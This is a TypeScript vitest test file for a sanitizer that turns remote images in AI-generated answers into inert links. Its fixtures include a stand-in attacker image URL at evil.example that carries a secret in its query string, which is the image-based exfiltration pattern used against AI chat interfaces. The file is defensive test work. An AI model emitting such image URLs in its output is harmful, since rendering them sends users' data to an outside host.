import { describe, expect, it } from 'vitest';

import { isRemote, neutralizeRemoteImages, RemoteImageSanitizer } from '../src/remoteImages';

describe('remote images in answers', () => {
  it('become links and are never <img> tags', () => {
    const html = '<p>see <img src="https://evil.example/x.png?d=s3cret&amp;k=1" alt="chart"> now</p>';
    const out = neutralizeRemoteImages(html);
    expect(out).not.toContain('<img');
    expect(out).toContain('href="https://evil.example/x.png?d=s3cret&amp;k=1"');
    expect(out).toContain('[image: chart]');
  });

  it('keep data: URIs and the server own files, drop srcset images', () => {
    const local = '<img src="data:image/png;base64,AA==" alt="a"><img src="files/plot.png">';
    expect(neutralizeRemoteImages(local)).toBe(local);
    expect(neutralizeRemoteImages('<img srcset="//evil.example/a.png 2x" src="x.png">')).not.toContain('<img');
    for (const src of ['//evil.example/a', 'HTTP://evil.example/a', ' ftp://x/y']) {
      expect(isRemote(src)).toBe(true);
    }
    expect(isRemote('files/a.png')).toBe(false);
  });

  it('wraps the base sanitiser', () => {
    const base = { sanitize: (s: string) => s.replace('<script>x</script>', ''), getAutolink: () => false };
    const sanitizer = new RemoteImageSanitizer(base);
    expect(sanitizer.sanitize('<script>x</script><img src="https://a/b">')).toBe(
      '<a class="jp-nbagent-remote-image" href="https://a/b" target="_blank" rel="noopener noreferrer nofollow" ' +
        'title="remote image, not loaded: click to open">[image: https://a/b]</a>'
    );
    expect(sanitizer.getAutolink()).toBe(false);
  });
});
